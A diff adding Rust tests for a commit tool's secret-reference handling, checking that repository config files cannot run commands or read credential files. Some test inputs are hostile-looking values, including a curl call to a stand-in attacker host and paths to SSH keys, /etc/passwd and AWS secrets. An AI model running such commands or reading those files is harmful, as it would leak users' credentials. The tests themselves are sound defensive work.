@@ -0,0 +1,87 @@
+use rusty_commit::config::{check_repo_value, load_config, read_config_file, ConfigOrigin, ConfigSources};
+use rusty_commit::utils::secrets::{resolve_secret, SecretRef, DEFAULT_KEYRING_ACCOUNT};
+use std::fs;
+use std::path::{Path, PathBuf};
+
+#[test]
+fn references_are_parsed_by_scheme() {
+    assert_eq!(SecretRef::parse("keyring:work"), Some(SecretRef::Keyring("work".to_string())));
+    assert_eq!(SecretRef::parse("keyring:"), Some(SecretRef::Keyring(DEFAULT_KEYRING_ACCOUNT.to_string())));
+    assert_eq!(SecretRef::parse("env: OPENROUTER_KEY "), Some(SecretRef::Env("OPENROUTER_KEY".to_string())));
+    assert_eq!(SecretRef::parse("cmd:pass show openrouter"), Some(SecretRef::Cmd("pass show openrouter".to_string())));
+    assert_eq!(SecretRef::parse("file:/run/secrets/key"), Some(SecretRef::File(PathBuf::from("/run/secrets/key"))));
+
+    if let Some(home) = dirs::home_dir() {
+        assert_eq!(SecretRef::parse("file:~/.key"), Some(SecretRef::File(home.join(".key"))));
+    }
+}
+
+#[test]
+fn plain_values_are_not_references() {
+    for value in ["sk-or-v1-abc", "", "https://example.com", "vault:key"] {
+        assert_eq!(SecretRef::parse(value), None, "{}", value);
+    }
+    assert_eq!(resolve_secret("sk-or-v1-abc").unwrap(), "sk-or-v1-abc");
+}
+
+#[test]
+fn references_resolve_trimmed() {
+    std::env::set_var("RUSTY_COMMIT_TEST_SECRET", " from-env\n");
+    assert_eq!(resolve_secret("env:RUSTY_COMMIT_TEST_SECRET").unwrap(), "from-env");
+    assert!(resolve_secret("env:RUSTY_COMMIT_TEST_UNSET").is_err());
+
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("key");
+    fs::write(&file, "from-file\n").unwrap();
+    assert_eq!(resolve_secret(&format!("file:{}", file.display())).unwrap(), "from-file");
+    assert!(resolve_secret(&format!("file:{}", dir.path().join("missing").display())).is_err());
+
+    fs::write(&file, "\n").unwrap();
+    assert!(resolve_secret(&format!("file:{}", file.display())).is_err());
+}
+
+#[cfg(unix)]
+#[test]
+fn commands_resolve_to_their_output() {
+    assert_eq!(resolve_secret("cmd:printf 'from-cmd\\n'").unwrap(), "from-cmd");
+    assert!(resolve_secret("cmd:echo leaked; exit 1").is_err());
+}
+
+#[test]
+fn repo_config_only_takes_keyring_and_own_env_references() {
+    let path = Path::new(".rusty-commit.toml");
+    for allowed in ["keyring:", "keyring:team", "env:RUSTY_COMMIT_TEAM_KEY"] {
+        check_repo_value(path, "api_key", &allowed.into()).unwrap();
+        check_repo_value(path, "profile.work.api_key", &allowed.into()).unwrap();
+    }
+    for refused in ["sk-or-v1-abc", "cmd:curl evil.example.com", "file:~/.ssh/id_ed25519", "env:AWS_SECRET_ACCESS_KEY"] {
+        assert!(check_repo_value(path, "api_key", &refused.into()).is_err(), "{}", refused);
+        assert!(check_repo_value(path, "profile.work.api_key", &refused.into()).is_err(), "{}", refused);
+    }
+}
+
+#[test]
+fn refused_repo_secrets_are_ignored_before_anything_runs() {
+    let dir = tempfile::tempdir().unwrap();
+    let marker = dir.path().join("ran");
+    for (content, key) in [
+        (format!("api_key = \"cmd:touch {}\"\n", marker.display()), "api_key"),
+        (format!("[profile.x]\nbranches = [\"*\"]\napi_key = \"cmd:touch {}\"\n", marker.display()), "profile.x.api_key"),
+        ("api_key = \"file:/etc/passwd\"\n".to_string(), "api_key"),
+        ("api_key = \"sk-or-v1-committed\"\n".to_string(), "api_key"),
+    ] {
+        fs::write(dir.path().join(".rusty-commit.toml"), &content).unwrap();
+        let sources = ConfigSources {
+            repo_root: Some(dir.path().to_path_buf()),
+            ..Default::default()
+        };
+        let loaded = load_config(&sources).unwrap();
+        assert_eq!(loaded.config.api_key, None, "{}", content);
+        assert_eq!(loaded.ignored_keys, [key]);
+
+        // Checking the file on its own, as `config edit` does, still refuses it
+        let path = dir.path().join(".rusty-commit.toml");
+        assert!(read_config_file(&path, &ConfigOrigin::Repo(path.clone())).is_err());
+    }
+    assert!(!marker.exists());
+}